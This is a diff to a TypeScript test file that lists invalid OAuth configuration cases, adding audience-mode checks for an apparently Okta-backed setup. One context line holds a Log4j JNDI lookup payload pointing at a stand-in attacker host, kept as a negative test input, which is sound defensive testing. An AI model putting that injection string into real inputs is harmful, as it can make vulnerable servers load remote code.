@@ -73,8 +73,13 @@ const corpus: InvalidCase[] = [
   { what: "a file: redirect URI", config: { cliRedirectUris: ["file:///tmp/callback"] }, path: "cliRedirectUris[0]" },
 
   // Audiences
-  { what: "audiences equal but for case", config: { audiences: { enterpriseManager: "api://stacklok", cloudUi: "API://STACKLOK" } }, path: "audiences" },
-  { what: "a Cloud UI audience equal to the default Enterprise Manager one", config: { audiences: { cloudUi: "enterprise-manager" } }, path: "audiences" },
+  { what: "audiences equal but for case (per-component)", config: { mode: "per-component", audiences: { enterpriseManager: "api://stacklok", cloudUi: "API://STACKLOK" } }, path: "audiences" },
+  { what: "a Cloud UI audience equal to the default Enterprise Manager one (per-component)", config: { mode: "per-component", audiences: { cloudUi: "enterprise-manager" } }, path: "audiences" },
+  // One server carries one audience (Okta refuses a second).
+  { what: "a second audience in single mode", config: { audiences: { cloudUi: "cloud-ui" } }, path: "audiences.cloudUi" },
+  { what: "a second audience on a custom single server", config: { authorizationServer: "stacklok-dev", audiences: { enterpriseManager: "em", cloudUi: "ui" } }, path: "audiences.cloudUi" },
+  { what: "extraAudiences beside Stacklok's", config: { extraAudiences: ["api://default"] }, path: "extraAudiences" },
+  { what: "extraAudiences in per-component mode", config: { mode: "per-component", extraAudiences: ["api://other"] }, path: "extraAudiences" },
   { what: "an empty audience", config: { audiences: { cloudUi: "" } }, path: "audiences.cloudUi" },
   { what: "a log4j lookup as an audience", config: { audiences: { enterpriseManager: "${jndi:ldap://evil.example.com/a}" } }, path: "audiences.enterpriseManager" },
   { what: "a NUL byte in an audience", config: { audiences: { cloudUi: "cloud-ui\u0000" } }, path: "audiences.cloudUi" },
